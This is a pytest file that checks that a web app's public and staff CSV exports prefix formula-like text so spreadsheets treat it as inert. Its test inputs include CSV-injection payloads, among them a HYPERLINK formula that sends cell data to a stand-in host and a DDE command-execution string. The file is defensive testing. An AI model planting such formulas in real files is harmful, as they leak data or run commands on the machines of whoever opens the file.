"""Every CSV the project writes neutralises text a spreadsheet would run as a formula (OWASP "CSV Injection")."""

import csv
import io

import pytest

from app.csvfiles import neutralise


def csv_rows(response):
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))


@pytest.mark.parametrize("title", ['=HYPERLINK("https://evil.example/?"&A2,"Open")', "+1+cmd|' /C calc'!A0",
                                   "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_a_title_that_starts_like_a_formula_is_written_as_text_in_the_public_csv(client, world, make_action, title):
    make_action(institution=world.school, title_en=title)
    (row,) = csv_rows(client.get("/open-data/actions.csv"))
    assert row["title_en"] == "'" + title


def test_ordinary_text_and_numbers_are_written_as_they_are(client, world, make_action):
    make_action(institution=world.school, title_en="Summer concert - open air", budget_planned=2_500_000)
    (row,) = csv_rows(client.get("/open-data/actions.csv"))
    assert (row["title_en"], row["budget_planned_amd"]) == ("Summer concert - open air", "2500000")


@pytest.fixture
def overspent(world, make_institution, make_action, make_report):
    """An institution whose (odd) address name starts like a formula, and which spent less than it planned."""
    institution = make_institution("=cmd", settlement=world.centre)
    action = make_action(institution=institution, budget_planned=1_000_000)
    make_report(action, actual_spent=750_000)
    return institution


def staff_institutions_csv(client, auth, make_user):
    auth.login(make_user(roles=(("viewer", None),)))
    return csv_rows(client.get("/staff/dashboard/export/institutions.csv?date_from=2026-03-01&date_to=2026-03-31"))


def test_the_staff_dashboard_csv_neutralises_text_too(client, auth, make_user, overspent):
    rows = staff_institutions_csv(client, auth, make_user)
    assert "'=cmd" in [row["institution"] for row in rows]


def test_a_negative_figure_stays_a_number_in_the_staff_csv(client, auth, make_user, overspent):
    rows = staff_institutions_csv(client, auth, make_user)
    assert next(row["variance"] for row in rows if row["institution"] == "'=cmd") == "-250000"


def test_a_negative_number_is_not_prefixed():
    assert neutralise(-250000) == -250000
